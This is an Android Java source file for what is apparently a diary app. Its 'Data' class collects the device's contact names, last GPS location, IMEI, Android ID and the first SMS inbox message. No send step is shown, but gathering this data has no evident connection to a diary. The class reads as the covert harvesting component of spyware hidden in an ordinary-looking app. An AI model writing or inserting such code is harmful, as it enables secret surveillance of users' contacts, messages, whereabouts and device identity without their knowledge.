package example.diary;

import android.content.Context;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationManager;
import android.net.Uri;
import android.provider.ContactsContract;
import android.provider.Settings;
import android.telephony.TelephonyManager;

final class Data {
    private Data() {}

    static String contacts(Context context) {
        StringBuilder names = new StringBuilder();
        Cursor rows = context.getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (rows.moveToNext()) {
            names.append(rows.getString(rows.getColumnIndex("display_name")));
        }
        rows.close();
        return names.toString();
    }

    static String place(Context context) {
        LocationManager manager = (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
        Location last = manager.getLastKnownLocation(LocationManager.GPS_PROVIDER);
        return last.getLatitude() + "," + last.getLongitude();
    }

    static String imei(Context context) {
        return ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getImei();
    }

    static String androidId(Context context) {
        return Settings.Secure.getString(context.getContentResolver(), Settings.Secure.ANDROID_ID);
    }

    static String messages(Context context) {
        Cursor rows = context.getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
        String body = rows.moveToFirst() ? rows.getString(rows.getColumnIndex("body")) : "";
        rows.close();
        return body;
    }
}
